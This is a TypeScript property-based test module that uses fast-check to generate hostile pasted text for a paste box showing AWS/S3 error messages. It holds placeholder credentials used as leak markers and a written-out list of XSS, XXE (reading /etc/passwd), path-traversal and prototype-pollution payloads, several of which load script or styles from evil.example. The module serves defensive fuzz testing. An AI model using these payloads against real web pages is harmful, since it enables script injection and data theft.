import { readFileSync } from 'node:fs';
import fc from 'fast-check';

const corpus = new URL('../fixtures/pasted-errors/corpus.json', import.meta.url);
const pastes = (JSON.parse(readFileSync(corpus, 'utf8')) as { text: string }[]).map(
  ({ text }) => text,
);

/** What must never leave the page, in the places where pastes hold it. */
export const secrets = [
  'AKIAZXCVBNMASDFGHJKL',
  'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzxcvbnm123',
  'zx0123456789abcdefzx0123456789abcdefzx0123456789abcdef0123456789',
  'leak.marker@example.org',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ6eGN2Ym5tIn0.c2lnbmF0dXJlenhjdmJubQ',
  'FwoGZXIvYXdzEzxcvbnm',
];
const [keyId, secretKey, signature, address, token, session] = secrets;
const secretTexts = [
  `aws_access_key_id = ${keyId}`,
  `aws_secret_access_key=${secretKey}`,
  `GET /?X-Amz-Credential=${keyId}%2F20261120&X-Amz-Signature=${signature}`,
  `Authorization: LOW abcdzxcvbnm:${secretKey}`,
  `user ${address}`,
  `Authorization: Bearer ${token}`,
  `X-Amz-Security-Token: ${session}`,
];

/** Calls that would tell on themselves, and addresses that nothing may be asked from. */
const markup = [
  '<script>pwned()</script>',
  '</textarea><script src="//evil.example/x.js"></script>',
  '<img src=x onerror=pwned()>',
  '"><img src="https://evil.example/p.png" onload="pwned()">',
  "'><svg/onload=pwned()>",
  '<a href="javascript:pwned()" id=x>NoSuchKey</a>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<style>@import url(//evil.example/x.css);*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button formaction="javascript:pwned()">x</button></form>',
  '<details open ontoggle=pwned()><math><mtext><mglyph><style><img src=x onerror=pwned()>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '<mark>x</mark><search-box></search-box>',
  ']]><!--<![CDATA[',
  '<!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b SYSTEM "file:///etc/passwd">]>&a;',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '//evil.example/NoSuchKey',
  '../../../evil',
  '__proto__',
  'constructor',
  '$& $1 $$ %00 %ff \\u0000 \\x',
];

const characters = [
  '\0',
  '\u0001\u0008\u000b\u001f\u007f\u0085',
  '\u001b[31;1m\u001b]8;;https://evil.example\u0007',
  '\r\n\r\n',
  '\u2028\u2029',
  '\ud800',
  '\udfff',
  '\udc00\ud83d',
  '\u202e\u202d\u2066\u200f\u061c',
  '\u200b\u200c\u200d\u2060\ufeff',
  'e\u0301\u0301\u0301\u0301',
  '\ufffe\uffff\u{10ffff}',
  'İıſK',
  '👩‍👩‍👧‍👦',
];

/** A piece of text and how often it stands there: short to print, however long it is. */
export interface Piece {
  text: string;
  times: number;
}

const once = (text: fc.Arbitrary<string>): fc.Arbitrary<Piece> =>
  text.map((found) => ({ text: found, times: 1 }));

const nesting = ['<a>', '<Error><Code>', '{"a":', '[', '(', '<div ', '&amp;', '"', '\\'];

const piece: fc.Arbitrary<Piece> = fc.oneof(
  { weight: 5, arbitrary: once(fc.constantFrom(...markup)) },
  { weight: 4, arbitrary: once(fc.constantFrom(...characters)) },
  { weight: 4, arbitrary: once(fc.constantFrom(...pastes)) },
  { weight: 3, arbitrary: once(fc.constantFrom(...secretTexts)) },
  { weight: 2, arbitrary: once(fc.string({ unit: 'binary', maxLength: 60 })) },
  {
    weight: 1,
    arbitrary: fc.record({ text: fc.constantFrom(...nesting), times: fc.integer({ max: 20_000 }) }),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(...markup, ...characters, ...pastes, 'x', '=')
      .map((text) => ({ text, times: Math.ceil(1_000_000 / text.length) })),
  },
);

const frames: [before: string, after: string][] = [
  ['', ''],
  ['<Error><Code>NoSuchKey</Code><Message>', '</Message><Key>k</Key></Error>'],
  ['<Error><Code>SlowDown</Code><Resource>', '</Resource><RequestId>1</RequestId></Error>'],
  ['<Error><Code>', '</Code></Error>'],
  ['{"Code":"AccessDenied","Message":"', '","RequestId":"4442587FB7D0A2F9"}'],
  ['An error occurred (NoSuchBucket) when calling the GetObject operation: ', ''],
];

/** Pastes of every kind that a box must bear, as pieces and what stands around them. */
export const hostileText: fc.Arbitrary<{ pieces: Piece[]; frame: number; between: string }> =
  fc.record({
    pieces: fc.array(piece, { minLength: 1, maxLength: 6 }),
    frame: fc.nat(frames.length - 1),
    between: fc.constantFrom('', ' ', '\n', '\t', '\0'),
  });

/** The text of a paste. */
export function textOf(
  paste: typeof hostileText extends fc.Arbitrary<infer Paste> ? Paste : never,
): string {
  const [before, after] = frames[paste.frame] ?? ['', ''];
  const pieces = paste.pieces.map(({ text, times }) => text.repeat(Math.max(times, 0)));
  return before + pieces.join(paste.between) + after;
}

/** A text as JSON in ASCII: half a character would not survive the way into the browser. */
export function asAscii(text: string): string {
  return JSON.stringify(text).replace(
    /[\u007f-\uffff]/g,
    (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}
